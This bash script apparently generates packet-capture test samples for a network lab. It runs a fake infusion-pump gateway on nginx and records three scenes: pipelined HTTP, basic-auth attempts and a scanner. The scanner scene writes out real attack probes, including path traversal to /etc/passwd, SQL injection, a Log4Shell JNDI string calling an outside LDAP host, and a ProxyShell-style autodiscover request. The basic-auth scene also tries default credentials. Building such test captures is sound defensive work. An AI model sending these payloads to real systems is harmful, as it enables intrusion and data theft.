#!/bin/bash
# Records samples/http-pipelined, http-basic-auth and http-scanner: nginx as server, curl and raw sockets as clients. Run
# as root; needs nginx, curl, openssl, python3, iproute2, ethtool and tcpdump.
set -euo pipefail
cd "$(dirname "$0")"
NET=httplab
source pair.sh
SAMPLES=$(cd .. && pwd)
RUN=$(mktemp -d)

make_site() {
	mkdir -p site/config logs
	echo '<html><head><title>Infusion Gateway 3 - Sign in</title></head><body>ward</body></html>' >site/index.html
	touch -d 2026-01-01T00:00:00Z site/index.html
	for i in $(seq 400); do echo "<p>row $i of a long table of settings</p>"; done >site/long.html
	head -c 60000 /dev/zero | tr '\0' 'x' >site/firmware.bin
	printf 'MZ' | dd of=site/firmware.bin conv=notrunc status=none
	echo '{"rate":5}' >site/config/pump.json
	echo "admin:$(openssl passwd -apr1 admin)" >users
	echo "nurse:$(openssl passwd -apr1 Invented-4711)" >>users
	cat >nginx.conf <<-CONF
		worker_processes 1;
		pid $RUN/nginx.pid;
		error_log $RUN/logs/error.log;
		events { worker_connections 64; }
		http {
			access_log off;
			types { text/html html; application/json json; }
			gzip on; gzip_types application/json; gzip_min_length 200;
			client_body_temp_path $RUN/body; proxy_temp_path $RUN/proxy; fastcgi_temp_path $RUN/fcgi;
			uwsgi_temp_path $RUN/uwsgi; scgi_temp_path $RUN/scgi;
			server {
				listen 80; listen 8080; root $RUN/site;
				location /config/ { auth_basic "Infusion Gateway 3"; auth_basic_user_file $RUN/users; }
				location /login { return 302 /index.html?session=1; }
				location /upload { client_max_body_size 1m; return 204; }
			}
		}
	CONF
	chmod -R a+rX "$RUN"
}

get() { in_client curl -s -m 5 "$@" >/dev/null || true; }

# Several requests in one write; chunked, gzip, HEAD, 304, a form, a multipart upload, a body announced with Expect.
pipelined() {
	in_client python3 - "$SERVER_IP" <<-'PY'
		import socket, sys, time
		s = socket.create_connection((sys.argv[1], 8080))
		host = b"Host: gateway.ward.example\r\n"
		ask = lambda line, *h, body=b"": line + b" HTTP/1.1\r\n" + host + b"".join(x + b"\r\n" for x in h) + b"\r\n" + body
		form = b"username=nurse&password=Invented-4711&go=1"
		s.sendall(ask(b"GET /index.html") + ask(b"HEAD /long.html") +
		          ask(b"GET /long.html", b"Accept-Encoding: gzip") +
		          ask(b"POST /login", b"Content-Type: application/x-www-form-urlencoded", b"Content-Length: %d" % len(form), body=form) +
		          ask(b"GET /index.html?patientId=LABPATIENT-0001&view=full") +
		          ask(b"POST /upload", b"Transfer-Encoding: chunked", body=b"5;x=y\r\nhello\r\n6\r\n world\r\n0\r\nTrailer: 1\r\n\r\n") +
		          ask(b"PROPFIND /nothing-here", b"Depth: 1"))
		time.sleep(0.3)
		while True:
		    s.settimeout(0.5)
		    try:
		        if not s.recv(65536): break
		    except TimeoutError: break
		request = ask(b"GET /config/pump.json", b"Connection: close", b"Authorization: Bearer " + b"t" * 40)
		for i in range(0, len(request), 7):
		    s.sendall(request[i:i+7]); time.sleep(0.002)
		while s.recv(65536): pass
		s.close()
	PY
	head -c 300 /dev/zero >upload.dcm
	printf 'DICM' | dd of=upload.dcm bs=1 seek=128 conv=notrunc status=none
	get -F "file=@upload.dcm;type=application/dicom" -F "note=x" "http://$SERVER_IP/upload"
	get -H "Expect: 100-continue" --data-binary @site/long.html -H "Content-Type: text/html" "http://$SERVER_IP/upload"
	get --compressed --http1.0 "http://$SERVER_IP/long.html"
	get "http://$SERVER_IP/firmware.bin"
	get -H "If-Modified-Since: Thu, 01 Jan 2026 00:00:00 GMT" "http://$SERVER_IP/index.html"
	get --http2-prior-knowledge "http://$SERVER_IP/"
}

basic_auth() {
	get "http://$SERVER_IP/config/pump.json"
	get -u admin:wrong-guess "http://$SERVER_IP/config/pump.json"
	get -u nurse:Invented-4711 "http://$SERVER_IP/config/pump.json"
	get -u admin:admin "http://$SERVER_IP/config/pump.json"
	get -X PUT -u admin:admin -H "Content-Type: application/json" -d '{"rate":999}' "http://$SERVER_IP/config/pump.json"
}

# A search for hidden pages, then probes of known holes.
scanner() {
	local agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)" urls=()
	for word in admin backup cgi-bin phpmyadmin console manager wp-login test old config.bak; do
		for ext in .php .asp .jsp .cgi .txt .bak .zip; do urls+=("http://$SERVER_IP/$word$ext"); done
	done
	get -A "$agent" "${urls[@]}"
	get -A "$agent" --path-as-is "http://$SERVER_IP/../../../../etc/passwd" "http://$SERVER_IP/cgi-bin/.%2e/.%2e/bin/sh"
	get -A "$agent" "http://$SERVER_IP/item?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--"
	get -A "$agent" -H 'X-Api-Version: ${jndi:ldap://203.0.113.9:1389/a}' "http://$SERVER_IP/"
	get -A "$agent" "http://$SERVER_IP/autodiscover/autodiscover.json?@ward.example/owa/?&Email=autodiscover/autodiscover.json%3F@ward.example"
	get "http://$SERVER_IP/wpad.dat"
}

make_pair
cd "$RUN"
make_site
in_server nginx -c "$RUN/nginx.conf"
for scene in pipelined basic_auth scanner; do
	dir="$SAMPLES/http-${scene//_/-}"
	mkdir -p "$dir"
	record "$dir/capture.pcap"
	"$scene"
	stop_record
	chown "$(id -u):$(id -g)" "$dir/capture.pcap"
done
in_server nginx -c "$RUN/nginx.conf" -s stop
sleep 1
rm -rf "$RUN"
